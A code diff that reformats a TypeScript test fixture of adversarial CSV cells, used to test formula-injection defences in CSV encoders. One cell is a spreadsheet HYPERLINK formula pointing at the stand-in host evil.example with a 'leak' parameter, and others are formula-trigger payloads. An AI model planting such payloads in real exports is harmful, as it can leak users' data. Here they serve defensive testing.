@@ -22,6 +22,24 @@ export function decodeCsvCell(cell: string): string {
 
 /** Cells that try each trigger, quoting, and non-ASCII, for tests of both encoders. */
 export const ADVERSARIAL_CSV_CELLS: readonly string[] = [
-  '=HYPERLINK("http://evil.example/?leak","Open policy")', '=1+2', '+1', '-1', '-', '@SUM(A1:A9)', '\t=1', '\r=1',
-  "'", "''=1", "'plain", ' =1', '"=1"', 'a=1', '', 'Returns policy', '\n=1', '＝1', 'Ünïcödé =', '😀=1',
+  '=HYPERLINK("http://evil.example/?leak","Open policy")',
+  '=1+2',
+  '+1',
+  '-1',
+  '-',
+  '@SUM(A1:A9)',
+  '\t=1',
+  '\r=1',
+  "'",
+  "''=1",
+  "'plain",
+  ' =1',
+  '"=1"',
+  'a=1',
+  '',
+  'Returns policy',
+  '\n=1',
+  '＝1',
+  'Ünïcödé =',
+  '😀=1',
 ];
